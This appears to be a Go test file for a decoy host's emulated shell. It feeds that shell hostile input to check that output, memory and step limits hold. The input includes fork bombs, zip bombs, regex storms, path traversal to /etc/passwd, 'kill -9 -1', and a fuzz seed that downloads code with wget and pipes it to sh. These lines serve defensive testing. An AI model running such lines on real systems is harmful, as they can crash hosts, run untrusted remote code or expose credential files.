package programs

import (
	"context"
	"net/netip"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/lapwing-defence/lapwing/internal/clock"
	"github.com/lapwing-defence/lapwing/internal/host"
	"github.com/lapwing-defence/lapwing/internal/host/kernel"
	"github.com/lapwing-defence/lapwing/internal/host/netcmd"
	"github.com/lapwing-defence/lapwing/internal/host/shell"
	"github.com/lapwing-defence/lapwing/internal/host/vfs"
	"github.com/lapwing-defence/lapwing/internal/persona"
)

// notes records what a session's recorder is told.
type notes struct {
	silent
	mu  sync.Mutex
	all []string
}

func (n *notes) Note(_ context.Context, action, _ string) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.all = append(n.all, action)
}

func (n *notes) Limit(name string) { n.Note(context.Background(), name, "") }

// small is a host with little of everything, so that bad input meets its
// limits soon.
func small(tb testing.TB) *host.Host {
	tb.Helper()
	p, err := persona.Generate("debian-server", 7, time.Date(2026, 3, 4, 5, 6, 7, 0, time.UTC))
	if err != nil {
		tb.Fatal(err)
	}
	return host.New(host.Config{
		Name: "files", Persona: p, Programs: All(), Clock: clock.System(), Net: netcmd.World{Downloads: "serve"},
		FS:     vfs.Options{Quota: 4 << 20, MaxNodes: 2000, MaxFile: 1 << 20},
		Limits: kernel.Limits{Steps: 2_000_000, Memory: 8 << 20, Moved: 64 << 20, Output: 4 << 20, Procs: 32, Started: 2000, Depth: 32},
	})
}

// capped counts output and keeps little of it.
// It charges the session's budget, as a decoy's channel does.
type capped struct {
	mu     sync.Mutex
	n      int64
	b      strings.Builder
	budget *kernel.Budget
}

func (c *capped) Write(p []byte) (int, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.budget.Output(int64(len(p))) != nil {
		return 0, vfs.EPIPE
	}
	c.n += int64(len(p))
	if c.b.Len() < 4096 {
		c.b.Write(p[:min(len(p), 4096)])
	}
	return len(p), nil
}

func (c *capped) Read([]byte) (int, error) { return 0, vfs.EBADF }

// hang is when a line that should have met a limit of steps or bytes is given
// up: far more than the slowest takes on a busy machine.
const hang = 5 * time.Minute

// hostile runs a line in a small session and gives its output and status.
func hostile(tb testing.TB, h *host.Host, line string, n *notes) (*capped, int, *kernel.Session) {
	tb.Helper()
	v := h.Visit(tb.Context(), netip.MustParseAddr("198.51.100.9"))
	defer v.Close()
	ctx, stop := context.WithTimeout(tb.Context(), hang)
	defer stop()
	s, ctx, cancel := v.Open(ctx, host.Login{User: "root", From: netip.MustParseAddrPort("198.51.100.9:4000"), To: netip.MustParseAddrPort("127.0.0.1:22"), Service: "ssh", Recorder: n})
	defer cancel(nil)
	w := &capped{budget: s.Budget}
	fds := map[int]*kernel.FD{0: kernel.NewFD("pipe:[1]", stdin{strings.NewReader("")}, nil), 1: kernel.NewFD("pipe:[2]", w, nil), 2: kernel.NewFD("pipe:[3]", w, nil)}
	st := shell.Exec(ctx, host.Shell(s, fds), line)
	if ctx.Err() != nil && context.Cause(ctx) == context.DeadlineExceeded { //nolint:errorlint // it comes bare
		tb.Errorf("%.80s: hangs", line)
	}
	return w, st, s
}

func TestBadInput(t *testing.T) {
	deep := strings.Repeat("(", 5000) + "echo" + strings.Repeat(")", 5000)
	for name, line := range map[string]string{
		"fork bomb":          ":(){ :|:& };:; wait",
		"fork bomb by name":  "bomb() { bomb & bomb & }; bomb; wait",
		"script that execs":  `printf '#!/bin/sh\n$0 & $0\n' > /tmp/b; chmod +x /tmp/b; /tmp/b; wait`,
		"endless output":     "yes | head -c 10G",
		"endless to null":    "yes > /dev/null",
		"endless to a file":  "yes > /tmp/full; ls -l /tmp/full",
		"doubling":           "x=a; while :; do x=$x$x; done",
		"doubling array":     "a=(x); while :; do a=(\"${a[@]}\" \"${a[@]}\"); done",
		"doubling in awk":    `awk 'BEGIN{x="a"; while (1) x = x x}'`,
		"cells in awk":       `awk 'BEGIN{while (1) a[i++] = i}'`,
		"doubling in sed":    `echo a | sed ':a;s/.*/&&/;ta'`,
		"sort endless":       "yes | sort",
		"long line":          "head -c 1G /dev/zero | tr '\\0' a | wc -c; head -c 100M /dev/zero | tr '\\0' b | grep b | wc -c",
		"deep parentheses":   deep,
		"deep substitutions": "echo " + strings.Repeat("$(echo ", 3000) + strings.Repeat(")", 3000),
		"deep braces":        "echo " + strings.Repeat("{a,", 3000) + strings.Repeat("}", 3000),
		"wide braces":        "echo {1..100000000}; echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b} | wc -c",
		"deep arithmetic":    "echo $((" + strings.Repeat("(", 3000) + "1" + strings.Repeat(")", 3000) + "))",
		"recursion":          "f() { f; }; f",
		"eval recursion":     `e='eval "$e"'; eval "$e"`,
		"source itself":      "echo '. /tmp/self' > /tmp/self; . /tmp/self",
		"trap on trap":       "trap 'trap \"echo x\" EXIT; exit' EXIT",
		"many files":         "mkdir /tmp/m; cd /tmp/m; i=0; while [ $i -lt 1000000 ]; do : > f$i || break; i=$((i+1)); done; ls | wc -l",
		"long names":         "touch " + strings.Repeat("n", 5000) + "; mkdir -p " + strings.Repeat("d/", 3000),
		"path tricks":        "cat ../../../../../../../../etc/passwd | head -1; cd ../../../..; ls -d ../..; cat /proc/self/root/../../etc/hostname; cat //etc//./hostname",
		"symlink loop":       "ln -s /tmp/a /tmp/b; ln -s /tmp/b /tmp/a; cat /tmp/a; ls -lL /tmp/a; find -L /tmp -name x; cp -r /tmp /tmp/copy; grep -r zzz /tmp",
		"link to the parent": "mkdir /tmp/p; ln -s .. /tmp/p/up; find -L /tmp/p; ls -RL /tmp/p | tail -1; du -L /tmp/p",
		"sparse dd":          "dd if=/dev/zero of=/tmp/s bs=1G count=10; dd if=/dev/zero of=/tmp/t bs=1 count=0 seek=1T; ls -l /tmp/s /tmp/t; truncate -s 10T /tmp/u; cat /tmp/t > /tmp/v",
		"zip bomb":           "head -c 900K /dev/zero > /tmp/z; gzip -c /tmp/z > /tmp/z1.gz; for i in 1 2 3; do cat /tmp/z1.gz /tmp/z1.gz /tmp/z1.gz; done > /tmp/z2.gz; zcat /tmp/z2.gz | zcat -f | wc -c",
		"glob storm":         "mkdir -p /tmp/g/{1..20}/{1..20}; echo /tmp/g/*/*/* /*/*/*/* | wc -c",
		"regex storm":        `echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa! | grep -E '(a+)+$'; [[ aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa! =~ ^(a+)+$ ]]`,
		"pattern storm":      `x=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; case $x in *a*a*a*a*a*a*a*a*a*a*a*a*a*a*b) echo y;; esac; echo ${x##*a*a*a*a*a*a*a*a*a*b}`,
		"printf width":       `printf '%1000000000d' 1 | wc -c; printf '%.1000000000f' 1 | wc -c; awk 'BEGIN{printf "%1000000000d", 1}' | wc -c`,
		"seq":                "seq 1 100000000000 | tail -1; for i in $(seq 1 10000000); do :; done",
		"expr":               "expr 99999999999999999999 '*' 99999999999999999999; x=9; while :; do x=$(expr $x '*' $x); done",
		"here document":      "cat <<X\n" + strings.Repeat("line of text\n", 20_000) + "X",
		"redirect loops":     "cat < /tmp/l >> /tmp/l; echo a > /tmp/l; cat /tmp/l >> /tmp/l",
		"fifo":               "mkfifo /tmp/f; (echo x > /tmp/f &) ; cat /tmp/f; echo done",
		"tar of itself":      "cd /tmp; tar cf t.tar .; tar cf - / | wc -c",
		"xargs storm":        "yes a | xargs -n1 echo > /dev/null",
		"find exec storm":    "find / -exec echo {} \\; | wc -l",
		"terminal escapes":   `printf '\033]0;x\007\033[2J\n'; touch "$(printf 'a\033[2Jb')"; ls`,
		"binary as a script": "head -c 5000 /dev/urandom > /tmp/r; sh /tmp/r; bash /tmp/r; chmod +x /tmp/r; /tmp/r; . /tmp/r",
		"odd bytes":          "echo \xff\xfe\x00; \xc3\x28; cat <<< $'\\xff'; echo ${#x\xff}",
		"descriptors":        "for i in {3..300}; do eval \"exec $i>/tmp/fd\"; done; ls /proc/self/fd | wc -l",
		"nested shells":      "bash -c 'bash -c \"bash -c \\\"sh -c date\\\"\"'; x='sh -c \"$0\" \"$0\"'; sh -c \"$x\" \"$x\"",
		"kill everything":    "kill -9 -1; kill -9 1; pkill -9 .; killall5; kill -9 $$",
		"background storm":   "while :; do sleep 100 & done",
		"read from a device": "cat /dev/zero | md5sum; cat /dev/urandom | head -c 5M | wc -c; od /dev/zero | head -3; strings /dev/urandom | head -1 | wc -l",
		"sleep for ever":     "sleep 1 & disown; timeout 0.2 sleep infinity; echo $?",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			n := &notes{}
			w, st, _ := hostile(t, small(t), line, n)
			if w.n > 6<<20 {
				t.Errorf("%d bytes of output", w.n)
			}
			if strings.Contains(w.b.String(), "goroutine") || st < 0 || st > 255 {
				t.Errorf("status %d, output %.200q", st, w.b.String())
			}
			for _, a := range n.all {
				if a == "program-crashed" {
					t.Errorf("a program of ours panicked; output %.300q", w.b.String())
				}
			}
		})
	}
}

// TestBadInputMemory holds the whole process's memory against what the
// session may hold.
func TestBadInputMemory(t *testing.T) {
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	for _, line := range []string{"x=a; while :; do x=$x$x; done", "yes | sort", "head -c 1G /dev/zero | tr '\\0' a | cat > /tmp/x", `awk 'BEGIN{while (1) a[i++] = "some longer text " i}'`} {
		hostile(t, small(t), line, &notes{})
	}
	runtime.GC()
	runtime.ReadMemStats(&after)
	if grown := int64(after.HeapAlloc) - int64(before.HeapAlloc); grown > 64<<20 {
		t.Errorf("the heap grew by %d MiB", grown>>20)
	}
	if after.Sys > 1<<30 {
		t.Errorf("the process took %d MiB from the system", after.Sys>>20)
	}
}

func FuzzShell(f *testing.F) {
	for _, s := range []string{
		"echo $((1+1)) ${x:-y} $(ls)", "for i in 1 2; do echo $i; done | sort", "cat <<X\na\nX", "f(){ echo $1; }; f a", "ls -la /; ps aux; awk '{print $1}' /etc/passwd",
		"a=(1 2); echo ${a[@]}", "case x in x) echo;; esac", "[[ a =~ b ]] && echo", "trap 'echo' EXIT; exit 3", "sed -n '1p' /etc/passwd | tr a b | cut -c1", "find / -name x", "tar cf - /etc | tar tf -",
		"printf '%s%d' a 1", "echo {1..3}{a,b}", "x=$(<f)", "exec 3>f; echo >&3", "wget http://198.51.100.1/x -O- | sh", "python3 -c 'print(1)'",
		"00&0\xde", "()0",
	} {
		f.Add(s)
	}
	h := small(f)
	f.Fuzz(func(t *testing.T, line string) {
		if len(line) > 4096 || strings.Contains(line, "sleep") {
			return
		}
		n := &notes{}
		w, st, _ := hostile(t, h, line, n)
		if st < 0 || st > 255 || w.n > 6<<20 {
			t.Errorf("status %d, %d bytes of output", st, w.n)
		}
		for _, a := range n.all {
			if a == "program-crashed" {
				t.Error("a program of ours panicked")
			}
		}
	})
}
